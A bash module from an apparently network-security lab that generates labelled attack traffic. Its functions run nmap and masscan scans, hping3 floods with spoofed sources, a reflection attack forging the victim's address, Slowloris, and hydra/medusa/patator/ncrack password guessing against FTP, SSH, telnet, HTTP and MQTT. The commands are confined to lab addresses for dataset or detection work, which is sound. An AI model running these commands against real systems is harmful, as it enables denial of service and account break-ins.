# Attack runners (sourced by lab.sh): one function per schedule kind, each
# running real tools from the attacker namespaces against lab addresses
# only. Every tool is bounded twice: by a count (ports, packets, wordlist,
# connections) and by `timeout` with the plan's limit. hping3 never gets
# --flood (it ignores -c there); rates come from -i.
#
# attack_run ID FINE ATTACKERS TARGET PARAMS   (ATTACKERS: a,b,c)

# Tools run with cwd and HOME in the scratch area: hydra writes
# hydra.restore to its cwd, medusa and nmap nothing; ncrack writes a restore
# file when stopped by timeout, under the passwd home directory unless given
# --save (attack_dictionary does).
_tool() {
  local h=$1; shift
  ( cd "$LAB_WORK/toolhome" && HOME="$LAB_WORK/toolhome" lab_in "$h" "$@" )
}

# target spec -> addresses: a host, a comma list of hosts, or "subnet"
_target_ips() {
  local t
  if [ "$1" = subnet ]; then echo "$LAB_NET.0/24"; return; fi
  for t in ${1//,/ }; do lab_ip "$t"; done
}

# nmap port selection from the plan: default | top:N | range:A-B
_nmap_ports() {
  case $1 in
    default) ;;
    top:*) echo "--top-ports ${1#top:}" ;;
    range:*) echo "-p ${1#range:}" ;;
    *) lab_die "bad port spec '$1'" ;;
  esac
}

attack_portscan() {   # Port Scan: nmap SYN / connect / UDP scans, -T1..-T5, optional -sV or -O
  local rate=() extra=()
  [ "$A_maxrate" != 0 ] && rate=(--max-rate "$A_maxrate")
  case ${A_extra:-none} in
    sV) extra=(-sV --version-intensity 4) ;;
    O)  extra=(-O --max-os-tries 1) ;;
  esac
  _tool "$1" timeout "$A_limit" nmap -n -Pn "-$A_scan" "-$A_timing" --max-retries "$A_retries" \
    "${rate[@]}" "${extra[@]}" $(_nmap_ports "$A_ports") $(_target_ips "$2")
}

# Host discovery over the lab subnet. nmap's ARP ping is its default on a
# local network; --send-ip makes it send the ICMP/UDP/TCP probes as IP
# packets instead (the kernel then ARPs for every address, as a real sweep
# from the LAN does).
attack_sweep() {
  local net=$LAB_NET.0/24
  case $A_kind in
    arp)        _tool "$1" timeout "$A_limit" nmap -n -sn -PR "-$A_timing" "$net" ;;
    icmp)       _tool "$1" timeout "$A_limit" nmap -n -sn -PE --send-ip "-$A_timing" "$net" ;;
    icmp-fping) _tool "$1" timeout "$A_limit" fping -q -a -g "$net" -r 1 -t 300 -i "$A_interval" ;;
    udp)        _tool "$1" timeout "$A_limit" nmap -n -sn -PU"$A_port" --send-ip "-$A_timing" "$net" ;;
    tcpsyn)     _tool "$1" timeout "$A_limit" nmap -n -sn -PS"$A_port" --send-ip "-$A_timing" "$net" ;;
    tcpack)     _tool "$1" timeout "$A_limit" nmap -n -sn -PA"$A_port" --send-ip "-$A_timing" "$net" ;;
    *) lab_die "unknown sweep kind '$A_kind'" ;;
  esac
  local rc=$?
  # fping exits 1 when some addresses did not answer (most of a /24 here)
  [ "$rc" = 1 ] && rc=0
  return "$rc"
}

# masscan: its own user-space SYN engine at a fixed packet rate. It sends
# every frame to one "router" MAC, so for a target on the LAN that is the
# target's own MAC.
attack_masscan() {
  local me; me=${1%%,*}
  _tool "$me" timeout "$A_limit" masscan "$(lab_ip "$2")" -p"$A_ports" --rate "$A_rate" \
    --adapter eth0 --adapter-ip "$(lab_ip "$me")" --adapter-mac "$(lab_host_field "$me" 4)" \
    --router-mac "$(lab_host_field "$2" 4)" --wait 3
}

attack_osscan() {     # OS Scan: nmap -O (one host, a list, or a subnet sweep)
  local guess=()
  [ "$A_guess" = 1 ] && guess=(--osscan-guess)
  [ "${A_sv:-0}" = 1 ] && guess+=(-sV --version-intensity 2)
  _tool "$1" timeout "$A_limit" nmap -n -O "-$A_timing" --max-os-tries "$A_tries" "${guess[@]}" \
    $(_nmap_ports "$A_ports") $(_target_ips "$2")
}

# Vulnerability Scan: nmap -sV with NSE scripts that probe for known flaws,
# never the dos/external/broadcast ones. http-slowloris-check is left out: it
# is a slow-DoS probe that would blur into the Slowloris class. TCP services
# only: -sV waits 5 s for each unanswered UDP probe and stalls on CoAP.
# VULN_SAFE is completed per set: with or without http-enum's path list.
VULN_SAFE='vuln and not (dos or external or broadcast or http-slowloris-check'
attack_vulnscan() {
  local scripts args=() ports
  case $A_scripts in
    vuln)              scripts="$VULN_SAFE or http-enum)" ;;
    vulnenum)          scripts="$VULN_SAFE)"; args=(--script-args http-enum.category=general) ;;
    vulnatk)           scripts="$VULN_SAFE)"; args=(--script-args http-enum.category=attacks) ;;
    discovery)         scripts='default or (discovery and safe and not (broadcast or external))' ;;
    defsafe)           scripts='default and safe' ;;
    *) lab_die "unknown script set '$A_scripts'" ;;
  esac
  case $2 in
    hub) ports="21,22,80,1883" ;;
    cam) ports="80" ;;
    plc) ports="23,80,502" ;;
    *)   lab_die "no vulnerability-scan port list for target '$2'" ;;
  esac
  [ -n "$A_extra" ] && ports="$ports,${A_extra//:/,}"
  _tool "$1" timeout "$A_limit" nmap -n -Pn -sS -sV --version-intensity "$A_intensity" \
    "-$A_timing" --script-timeout 30s -p "$ports" --script "$scripts" "${args[@]}" $(_target_ips "$2")
}

# hping3 floods (ICMP, SYN, UDP, DNS payload): BURSTS rounds, in each round
# every attacker sends COUNT packets at one interval; spoofed rounds use
# --rand-source and that round's TTL.
_flood() {
  local atks=$1 tgt=$2; shift 2
  local ip b h rc=0 pids ttl
  ip=$(_target_ips "$tgt")
  IFS=: read -r -a ttls <<< "$A_ttls"
  for (( b = 0; b < A_bursts; b++ )); do
    local extra=()
    [ "$A_spoof" = 1 ] && extra=(--rand-source -t "${ttls[b]}")
    [ -n "${DNS_PAYLOAD_PREFIX:-}" ] && extra+=(-E "$DNS_PAYLOAD_PREFIX$b.bin" -d "$(stat -c %s "$DNS_PAYLOAD_PREFIX$b.bin")")
    pids=()
    for h in ${atks//,/ }; do
      _tool "$h" timeout "$A_limit" hping3 -q -c "$A_count" -i "$A_interval" "$@" "${extra[@]}" "$ip" &
      pids+=($!)
    done
    for h in "${pids[@]}"; do wait "$h" || rc=$?; done
    (( b + 1 < A_bursts )) && sleep "$A_pause"
  done
  # hping3 exits 1 when it saw no replies (normal for spoofed floods)
  [ "$rc" = 1 ] && rc=0
  return "$rc"
}
attack_icmp_flood() { _flood "$1" "$2" -1 -d "$A_size"; }
attack_syn_flood()  {   # flags: syn, ecn (SYN+ECE+CWR), push (SYN+PSH), urg (SYN+URG)
  local f=()
  case ${A_flags:-syn} in
    ecn) f=(-X -Y) ;; push) f=(-P) ;; urg) f=(-U) ;;
  esac
  _flood "$1" "$2" -S "${f[@]}" -p "$A_port" -w "$A_win"
}

# Reflection / amplification: the attackers send requests to a lab reflector
# with the victim's address as the source (hping3 -a); the reflector answers
# the victim, whose kernel returns ICMP port unreachable for most of it.
attack_reflection() {
  local payload=$LAB_PLAN/refl_$ATTACK_ID.bin h pids=() rc=0
  for h in ${1//,/ }; do
    _tool "$h" timeout "$A_limit" hping3 -q -2 -a "$(lab_ip "$A_victim")" -p "$A_port" \
      -E "$payload" -d "$(stat -c %s "$payload")" -c "$A_count" -i "$A_interval" "$(lab_ip "$2")" &
    pids+=($!)
  done
  for h in "${pids[@]}"; do wait "$h" || rc=$?; done
  [ "$rc" = 1 ] && rc=0     # hping3: no replies came back to the attacker (they go to the victim)
  return "$rc"
}
attack_udp_flood()  { _flood "$1" "$2" -2 -p "$A_port" -d "$A_size"; }

attack_dns_flood() {  # DNS Flood: dnsperf at a fixed rate, or hping3 with a query payload
  if [ "$A_tool" = hping3 ]; then
    DNS_PAYLOAD_PREFIX="$LAB_PLAN/dns_${ATTACK_ID}_" _flood "$1" "$2" -2 -p 53
    return
  fi
  local h pids=() rc=0
  for h in ${1//,/ }; do
    _tool "$h" timeout "$A_limit" dnsperf -s "$(lab_ip "$2")" -d "$LAB_PLAN/dnsq_$ATTACK_ID.txt" \
      -c "$A_clients" -Q "$A_qps" -l "$A_secs" &
    pids+=($!)
  done
  for h in "${pids[@]}"; do wait "$h" || rc=$?; done
  return "$rc"
}

attack_slowloris() {  # Slowloris: slowhttptest in slow-headers mode
  _tool "$1" timeout "$A_limit" slowhttptest -H -c "$A_conns" -r "$A_rate" -i "$A_interval" \
    -l "$A_secs" -x "$A_hdrlen" -p 3 -u "http://$(lab_ip "$2")/"
}

attack_dictionary() { # Dictionary Attack: hydra / medusa / ncrack / patator, one service
  local ip users pw rc wait=()
  ip=$(lab_ip "$2") users=$LAB_PLAN/users_$ATTACK_ID.txt pw=$LAB_PLAN/pw_$ATTACK_ID.txt
  [ "${A_wait:-0}" != 0 ] && wait=(-W "$A_wait")
  case $A_tool/$A_service in
    hydra/ftp|hydra/telnet)
      _tool "$1" timeout "$A_limit" hydra -I -f -L "$users" -P "$pw" -t "$A_threads" "${wait[@]}" "$A_service://$ip" ;;
    hydra/http)
      _tool "$1" timeout "$A_limit" hydra -I -f -L "$users" -P "$pw" -t "$A_threads" "${wait[@]}" "http-get://$ip/admin/" ;;
    medusa/ssh|medusa/ftp|medusa/telnet)
      _tool "$1" timeout "$A_limit" medusa -f -h "$ip" -U "$users" -P "$pw" -t "$A_threads" -M "$A_service" ;;
    patator/ssh)
      _tool "$1" timeout "$A_limit" patator ssh_login host="$ip" user=FILE0 password=FILE1 0="$users" 1="$pw" \
        -t "$A_threads" --rate-limit="$A_wait" --max-retries=0 -x ignore:mesg='Authentication failed.' ;;
    patator/ftp)
      _tool "$1" timeout "$A_limit" patator ftp_login host="$ip" user=FILE0 password=FILE1 0="$users" 1="$pw" \
        -t "$A_threads" --rate-limit="$A_wait" --max-retries=0 -x ignore:mesg='Login incorrect.' ;;
    patator/http)
      _tool "$1" timeout "$A_limit" patator http_fuzz url="http://$ip/admin/" method=GET auth_type=basic \
        user_pass="$(head -n 1 "$users"):FILE0" 0="$pw" -t "$A_threads" --rate-limit="$A_wait" \
        --max-retries=0 -x ignore:code=401 ;;
    ncrack/mqtt)
      _tool "$1" timeout "$A_limit" ncrack -f --save "$LAB_WORK/toolhome/ncrack.restore" \
        -U "$users" -P "$pw" -g "cd=$A_delay,CL=$A_conns" "mqtt://$ip:1883" ;;
    *) lab_die "no dictionary runner for $A_tool/$A_service" ;;
  esac
  rc=$?
  # ending at the time limit is the normal end of a long wordlist
  [ "$rc" = 124 ] && rc=0
  return "$rc"
}

# attack_run ID KIND ATTACKERS TARGET PARAMS: run one schedule row.
attack_run() {
  local kind=$2
  ATTACK_ID=$1
  # clear the previous run's parameters, then load this run's
  unset "${!A_@}"
  lab_params A_ "$5"
  declare -F "attack_$kind" >/dev/null || lab_die "unknown attack kind '$kind'"
  "attack_$kind" "$3" "$4"
}
